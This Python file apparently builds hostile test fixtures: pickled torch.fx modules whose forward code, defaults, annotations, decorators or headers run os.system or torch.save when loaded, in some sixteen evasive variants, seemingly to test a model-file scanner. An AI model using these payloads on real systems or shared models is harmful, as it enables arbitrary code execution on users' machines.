"""Hostile modules of torch.fx: pickled with Python code, which loading them executes and traces."""

from __future__ import annotations

from collections.abc import Iterator

from containers import COMMAND, MARKER, Act, Hostile, saved

SYSTEM = f"__import__('os').system('{COMMAND}')"
HEADER = "import torch\n"
FORWARDS = {
    "builtin": f"    {SYSTEM}\n    return x",
    "expression": f"    return torch.relu({SYSTEM} or x)",
    "operator": f"    torch.save(1, '{MARKER}')\n    return x",
    "through": f"    torch.serialization.os.system('{COMMAND}')\n    return x",
    "getattr": f"    getattr(torch, 'save')(1, '{MARKER}')\n    return x",
    "alias": f"    torch.add = torch.save\n    torch.add(1, '{MARKER}')\n    return x",
    "name": f"    view = torch.save\n    view(1, '{MARKER}')\n    return x",
    "lambda": f"    return (lambda: {SYSTEM})()",
    "subscript": f"    [torch.save][0](1, '{MARKER}')\n    return x",
    "inner": f"    import os\n    os.system('{COMMAND}')\n    return x",
    "class": f"    class A(metaclass=lambda *a: {SYSTEM}): pass\n    return x",
    "comprehension": f"    return [{SYSTEM} for _ in (1,)]",
}
WHOLE = {
    "default": f"def forward(self, x={SYSTEM}):\n    return x\n",
    "annotation": f"def forward(self, x: {SYSTEM}):\n    return x\n",
    "decorator": f"@(lambda f: {SYSTEM} and f or f)\ndef forward(self, x):\n    return x\n",
    "behind": f"def forward(self, x):\n    return x\n{SYSTEM}\n",
}


def files() -> Iterator[Hostile]:
    codes = {name: f"\n\n\ndef forward(self, x):\n{code}\n" for name, code in FORWARDS.items()}
    for name, code in {**codes, **WHOLE}.items():
        yield Hostile(f"graph-{name}.pt", _module(code), "torch.fx", "torch", "own")
    honest = "def forward(self, x):\n    return x\n"
    header = f"import os; os.system('{COMMAND}')\n"
    yield Hostile("graph-header.pt", _module(honest, header), "torch.fx", "torch", "own")


def _module(code: str, header: str = HEADER) -> bytes:
    import pickle

    from torch import nn
    from torch.fx.graph_module import reduce_graph_module

    body = {**nn.Module().__dict__, "_code": code}
    return saved(pickle.dumps(Act(reduce_graph_module, body, header), 2))
